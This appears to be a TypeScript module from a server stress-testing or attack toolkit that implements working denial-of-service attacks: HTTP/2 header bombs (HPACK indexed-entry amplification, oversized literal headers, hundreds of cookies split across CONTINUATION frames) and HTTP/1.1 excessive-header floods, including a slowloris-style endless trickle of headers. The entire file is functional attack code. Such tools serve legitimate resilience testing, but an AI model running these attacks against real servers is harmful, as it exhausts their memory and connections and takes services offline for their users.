import { literal, newest, remembered } from '../../raw-http/hpack.ts'
import { continuation, headers, TYPE } from '../../raw-http/http2-frames.ts'
import { requestFor } from '../../raw-http/raw-http1.ts'
import type { RawHttp2 } from '../../raw-http/raw-http2.ts'
import {
  type AttackOptions,
  type AttackReport,
  type AttackTarget,
  type HoldOptions,
  hold,
  repeat,
} from '../attack.ts'
import { ConnectionGroup } from '../connection-group.ts'

const CONCURRENCY = 16
const TRICKLE_MS = 100
const FRAME_BYTES = 16_000

/** `indexed`: a table entry of 4 KiB, referenced thousands of times; `literal`: one large header; `cookies`: many small ones. */
export type HeaderBomb = 'indexed' | 'literal' | 'cookies'

/** Sends HTTP/2 requests with excessive headers. */
export async function bombHeaders(
  target: AttackTarget,
  options: AttackOptions & { bomb: HeaderBomb; streams?: number; connections?: number },
): Promise<AttackReport> {
  const { bomb, streams = 100, connections = 8, signal } = options
  const group = new ConnectionGroup(target, signal)
  let sent = 0
  try {
    options.onEstablished?.()
    const { done, failed } = await repeat({ times: connections, concurrency: 1, signal }, async () => {
      const client = await group.openHttp2()
      const { socket } = client
      for (let each = 0; each < streams && socket.isOpen && !socket.isOver && !signal.aborted; each += 1) {
        const frames = bombFrames(client, target, bomb, each === 0)
        sent += frames.length
        await socket.send(frames)
      }
      await client.settled()
      socket.close()
    })
    const answered = group.countFrames(TYPE.headers)
    return {
      done,
      failed,
      sent,
      answered,
      reset: group.countFrames(TYPE.rstStream),
      goaways: group.countFrames(TYPE.goaway),
    }
  } finally {
    group.close()
  }
}

function bombFrames(client: RawHttp2, target: AttackTarget, bomb: HeaderBomb, isFirst: boolean): Buffer {
  const stream = client.newStream()
  const block = Buffer.concat([client.block(target.manifest), bombHeaderBlock(bomb, isFirst)])
  const isWhole = block.length <= FRAME_BYTES
  const frames = [headers(stream, block.subarray(0, FRAME_BYTES), { endHeaders: isWhole })]
  for (let at = FRAME_BYTES; at < block.length; at += FRAME_BYTES) {
    const endHeaders = at + FRAME_BYTES >= block.length
    frames.push(continuation(stream, block.subarray(at, at + FRAME_BYTES), { endHeaders }))
  }
  return Buffer.concat(frames)
}

function bombHeaderBlock(bomb: HeaderBomb, isFirst: boolean): Buffer {
  switch (bomb) {
    case 'indexed': {
      // The HPACK table has 4096 bytes, and an entry counts as its text plus 32 bytes (RFC 7541 section 4.1).
      const entry = remembered(['x-bomb', 'x'.repeat(4000)])
      return isFirst ? Buffer.concat([entry, newest(4000)]) : newest(4000)
    }
    case 'literal':
      return literal(['x-large', 'x'.repeat(15_500)])
    case 'cookies':
      return Buffer.concat(Array.from({ length: 380 }, (_, index) => literal(['cookie', `c=${index}`])))
  }
}

/** `many`: thousands of small headers; `huge`: one of 1 MB; `endless`: one small header every 100 ms, without end. */
export type LargeHeaders = 'many' | 'huge' | 'endless'

/** Sends HTTP/1.1 requests with excessive headers. */
export async function largeHeaders(
  target: AttackTarget,
  options: HoldOptions & { headers: LargeHeaders; connections?: number },
): Promise<AttackReport> {
  const { connections = 50, headers: kind, signal } = options
  const group = new ConnectionGroup(target, signal)
  const timers: NodeJS.Timeout[] = []
  try {
    const { done, failed } = await repeat(
      { times: connections, concurrency: CONCURRENCY, signal },
      async () => {
        const { socket } = await group.openHttp1()
        if (kind === 'endless') {
          await socket.send('GET /v2/ HTTP/1.1\r\nHost: x\r\n')
          timers.push(setInterval(() => void socket.send('X-More: y\r\n'), TRICKLE_MS))
          return
        }
        const answered = new Promise<void>((resolve) => socket.onBytes(() => resolve()))
        const more = kind === 'many' ? 'X: y\r\n'.repeat(5000) : `X: ${'y'.repeat(1_000_000)}\r\n`
        await socket.send(requestFor('/v2/', more))
        await Promise.race([answered, socket.ended])
      },
    )
    await hold(options)
    return { done, failed }
  } finally {
    for (const timer of timers) clearInterval(timer)
    group.close()
  }
}
